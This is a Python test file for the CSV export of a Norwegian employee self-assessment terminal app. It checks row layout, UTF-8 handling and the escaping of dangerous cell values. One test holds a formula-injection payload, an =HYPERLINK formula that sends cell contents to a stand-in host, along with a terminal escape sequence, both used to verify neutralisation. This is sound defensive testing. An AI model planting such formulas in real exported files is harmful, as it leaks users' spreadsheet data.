"""The CSV export read back as a spreadsheet would: every answer once, nothing a formula."""

from __future__ import annotations

import csv
import io
from collections import Counter
from typing import Any

from medarbeider_tui.export.csv import COLUMNS
from tests.export.conftest import QUADRANT_ANSWERS, ExportText, SaveEntry

PLAN = {
    "utvikling-1": {"what": "Gi tilbakemelding", "how": "Hver fredag", "review": "2027-01-15"},
    "utvikling-2": {"what": "Delegere", "how": "", "review": None},
}


def read(text: str) -> list[dict[str, str]]:
    """With the csv module, the way a spreadsheet opens a file: BOM, then the sniffed dialect."""
    assert text.startswith("\ufeff")  # how spreadsheet programs know it is UTF-8
    body = text.removeprefix("\ufeff")
    dialect = csv.Sniffer().sniff(body)
    assert dialect.delimiter == ","
    rows = list(csv.DictReader(io.StringIO(body, newline=""), dialect=dialect))
    plain = list(csv.reader(io.StringIO(body, newline="")))
    assert plain[0] == list(COLUMNS)
    assert all(len(row) == len(COLUMNS) for row in plain)
    return rows


def answers_given(answers: dict[str, Any]) -> Counter[str]:
    """How many answers each key holds: one, or one per list entry, choice, placement, slot
    (with a row for each of its «how» and review date)."""
    count: Counter[str] = Counter()
    for key, value in answers.items():
        if isinstance(value, dict):  # a plan
            count[key] += sum(1 + bool(s["how"]) + bool(s["review"]) for s in value.values())
        elif isinstance(value, list):
            count[key] += len(value)
        else:
            count[key] += 1
    return count


def test_every_answer_is_one_row(save_entry: SaveEntry, export_text: ExportText) -> None:
    hall = {**QUADRANT_ANSWERS["reaktiv"], "od2": 3, "egen-refleksjon": "To\nlinjer, «sitat»"}
    tasks = ["Rapport", "Møter"]
    prior = {
        "oppgaver": tasks,
        "matrise": [{"item": "Rapport", "cell": "q1"}, {"item": "Møter", "cell": "q4"}],
        "slutte": "Lange møter",
    }
    leader = {"lf1": 5, "lf2": 1, "plan-utvikling": PLAN}
    entries = [
        save_entry(answers=hall),
        save_entry("prioritering", prior, days=1),
        save_entry("lederferdigheter", leader, days=2),
    ]
    rows = read(export_text([e.id for e in entries], "csv"))
    for entry, given in zip(entries, (hall, prior, leader), strict=True):
        mine = [row for row in rows if row["entry"] == entry.id]
        assert Counter(row["item"] for row in mine) == answers_given(given)
        assert {row["date"] for row in mine} == {entry.completed_at[:16].replace("T", " ")}
    by_item = {(row["entry"], row["item"]): row for row in rows}
    sb1 = by_item[(entries[0].id, "sb1")]
    assert (sb1["answer"], sb1["label"]) == ("2", "Delvis uenig")
    assert sb1["question"] == "Jeg vet hvilke verdier som er viktigst for meg i arbeidslivet."
    assert sb1["exercise"] == "Hall-kvadranten"
    text = by_item[(entries[0].id, "egen-refleksjon")]
    assert text["answer"] == "To\nlinjer, «sitat»"  # the line break kept inside the cell
    assert text["question"].startswith("Refleksjon: Hva tenker du om plasseringen din")
    placed = {r["answer"]: r["label"] for r in rows if r["item"] == "matrise"}
    assert placed == {"Rapport": "Viktig og haster", "Møter": "Verken viktig eller haster"}
    plan = [r for r in rows if r["item"] == "plan-utvikling"]
    assert [(r["label"], r["answer"]) for r in plan] == [
        ("Utviklingsområde 1", "Gi tilbakemelding"),
        ("Utviklingsområde 1 – Hvordan", "Hver fredag"),
        ("Utviklingsområde 1 – Se på igjen", "15.01.2027"),
        ("Utviklingsområde 2", "Delegere"),
    ]


def test_a_cell_is_never_a_formula(save_entry: SaveEntry, export_text: ExportText) -> None:
    """A text a spreadsheet would run (``=HYPERLINK(...)`` could send other cells away)."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"klikk")'
    tasks = [formula, "+1", "-2", "@SUM(A1)", "Vanlig"]
    entry = save_entry(
        "prioritering",
        {"oppgaver": tasks, "matrise": [{"item": task, "cell": "q1"} for task in tasks]},
    )
    rows = read(export_text([entry.id], "csv"))
    shown = [row["answer"] for row in rows if row["item"] == "oppgaver"]
    assert shown == ["'" + formula, "'+1", "'-2", "'@SUM(A1)", "Vanlig"]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_controls_are_visible_and_the_file_is_utf8(
    save_entry: SaveEntry, export_text: ExportText
) -> None:
    answer = "Tittel\x1b]0;hei\x07 og " + b"bl\xe5".decode("utf-8", "surrogateescape")
    entry = save_entry(answers={"sb1": 4, "egen-refleksjon": answer})
    rows = read(export_text([entry.id], "csv"))
    [text] = [row["answer"] for row in rows if row["item"] == "egen-refleksjon"]
    assert text == "Tittel␛]0;hei␇ og bl\ufffd"
